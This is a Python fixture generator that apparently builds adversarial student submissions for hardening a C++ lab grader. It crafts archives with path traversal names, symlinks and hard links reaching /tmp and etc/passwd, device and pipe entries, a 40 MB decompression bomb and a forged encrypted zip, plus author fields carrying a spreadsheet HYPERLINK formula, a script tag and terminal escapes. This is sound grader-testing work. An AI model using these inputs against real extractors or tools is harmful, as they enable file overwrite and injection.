"""Writes the grader's own class into a folder: what submissions/ stores, and what is made: archives, links, and worksheets,
which are the given one with changes.

make_class.py OUT [--only NAME ...]

OUT must be new or empty. The result is the same each time, byte by byte. Archives, links and odd names are made, not
stored, so that viewing this folder or unpacking the lab is harmless. Do not build or run the submissions by hand: they
do what their first line says, and writes_elsewhere changes the lab that it is built in.

expected.json: `tries` is what a submission does, `without_isolation` what happened with checker and clock alone, and
`expected` what measured/NAME.json must hold; what it does not name may be anything.
"""

import argparse
import gzip
import io
import json
import re
import shutil
import stat
import tarfile
import warnings
import zipfile
from pathlib import Path

from nbody_lab import ROOT

WHEN = (2026, 11, 20, 12, 0, 0)
HEADER = "part1_standard_opti/mine.hpp"
STORED = Path(__file__).resolve().with_name("submissions")
HONEST = (STORED / "locals" / HEADER).read_bytes()


def zip_info(name, mode=stat.S_IFREG | 0o644):
    info = zipfile.ZipInfo("x", WHEN)
    info.filename = name  # unchanged: the constructor would clean it
    info.create_system, info.external_attr = 3, mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def zip_of(*members, compression=zipfile.ZIP_DEFLATED):
    """members: (name or ZipInfo, content)"""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are intended
        for name, content in members:
            info = zip_info(name) if isinstance(name, str) else name
            archive.writestr(info, content, compression if isinstance(name, str) else None)
    return out.getvalue()


def write_files(folder, files):
    """files: {name: text or bytes}"""
    for name, content in dict(files).items():
        file = folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content if isinstance(content, bytes) else content.encode())


def tar_of(*members, packed=True, form=tarfile.GNU_FORMAT):
    """members: (name, content) or a TarInfo; gzipped if packed."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=form) as archive:
        for one in members:
            name, content = one if isinstance(one, tuple) else (one, b"")
            info = tarfile.TarInfo(name) if isinstance(name, str) else name
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return gzip.compress(raw.getvalue(), mtime=0) if packed else raw.getvalue()


def tar_of_kind(name, kind, target="", size=0):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, target, size
    return info


def locked(data):
    """The zip with only the flag of a password, on its first member."""
    data = bytearray(data)
    for magic, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(magic) + flags] |= 1
    return bytes(data)


UP = 8 * "../"
SHEET = "part1_standard_opti/worksheet.hpp"
ANSWERS = {
    "naive_loads_in_registers": "4 * n * n",
    "naive_stores_in_registers": "3 * n",
    "forces_percent": "80",
    "neighbours_percent": "20",
}


def write_sheet(path, **answers):
    """The given worksheet with these answers."""
    text = (ROOT / SHEET).read_text(encoding="utf-8")
    for name, answer in answers.items():
        declared = re.search(rf" {name} = [^;]*;", text)[0]
        text = text.replace(declared, f" {name} = {answer};")
    write_files(path, {SHEET: text})


def whole_lab(path):
    names = ("README.md", "CMakeLists.txt", "lab", "part1_standard_opti/naive.hpp")
    files = [(f"lab/{name}", (ROOT / name).read_bytes()) for name in names]
    path.write_bytes(tar_of(*files, (f"lab/{HEADER}", HONEST)))


def from_moodle(path):
    write_files(path, {"lab.zip": zip_of((f"lab/{HEADER}", HONEST))})


def escapes_and_bomb(path):
    """Names and links that lead out, files of the lab, a pipe, a device, and 40 MB."""
    of_the_lab = ("common/check/main.cpp", "CMakeLists.txt", "lab", "part1_standard_opti/naive.hpp")
    of_the_lab += ("part1_standard_opti/questions.py",)
    packed = tar_of(
        (HEADER, HONEST),
        tar_of_kind("part2_vectorization", tarfile.SYMTYPE, "/tmp"),
        ("part2_vectorization/attack_proof_link", b"x"),
        tar_of_kind("part2_vectorization/mine.hpp", tarfile.LNKTYPE, UP + "etc/passwd"),
        (UP + "tmp/attack_proof_dotdot", b"x"),
        ("/tmp/attack_proof_absolute", b"x"),
        tar_of_kind("part2_vectorization/flags.txt", tarfile.FIFOTYPE),
        tar_of_kind("part2_vectorization/notebook.csv", tarfile.CHRTYPE),
        *((name, b"attack_proof: not the file of the lab") for name in of_the_lab),
        ("part1_standard_opti/NOTEBOOK.md", bytes(40 << 20)),
    )
    path.write_bytes(packed)


def broken_worksheet(path):
    write_files(path, {HEADER: HONEST})
    write_sheet(path, **ANSWERS | {"forces_percent": "80 percent"})


NAMES = "=HYPERLINK(\\\"http://192.0.2.1/\\\"&A1), <script>alert('attack_proof')</script>, \\033[31mRed\\007"
MADE = {
    "whole_lab": whole_lab,
    "moodle_folder": from_moodle,
    "escapes_and_bomb": escapes_and_bomb,
    "worksheet_only": lambda path: write_sheet(
        path, authors='"Ada Lovelace, Charles Babbage"', **ANSWERS
    ),
    "worksheet_broken": broken_worksheet,
    "counts_calls": lambda path: write_sheet(path, authors=f'"{NAMES}"'),
}


def read_expected():
    """(what must stay intact, the rows). An entry that a row does not name is called like the row, and is of part 1."""
    read = json.loads(STORED.with_name("expected.json").read_text(encoding="utf-8"))
    rows = [{"entry": row["name"], "part": "part1", **row} for row in read["rows"]]
    return read["intact"], rows


def make_class(out, rows):
    """Raises FileExistsError if `out` is not empty."""
    out.mkdir(parents=True, exist_ok=True)
    if any(out.iterdir()):
        raise FileExistsError(f"{out}: not empty; name a new folder")
    for row in rows:
        name, place = row["name"], out / row["entry"]
        if (STORED / name).is_dir():
            shutil.copytree(STORED / name, place)
        if name in MADE:
            MADE[name](place)


def main():
    rows = {row["name"]: row for row in read_expected()[1]}
    parser = argparse.ArgumentParser(description="Writes the grader's own class into a folder.")
    parser.add_argument("out", type=Path, help="a new folder")
    parser.add_argument("--only", nargs="+", choices=rows, default=list(rows), metavar="NAME")
    asked = parser.parse_args()
    make_class(asked.out, [rows[name] for name in asked.only])
    print(f"{len(asked.only)} submissions in {asked.out}")


if __name__ == "__main__":
    main()
